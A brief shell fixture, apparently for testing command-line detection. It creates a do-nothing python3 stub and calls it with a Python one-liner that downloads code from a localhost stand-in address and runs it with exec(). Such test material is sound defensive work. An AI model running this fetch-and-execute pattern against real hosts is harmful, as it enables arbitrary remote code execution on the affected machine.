# A make-believe python3: what matters is the command line, nothing is done.
mkdir -p "$HOME/bin"
printf '#!/bin/sh\n' > "$HOME/bin/python3"
chmod +x "$HOME/bin/python3"
"$HOME/bin/python3" -c "import urllib.request as r; exec(r.urlopen('http://127.0.0.1:9/s').read())"
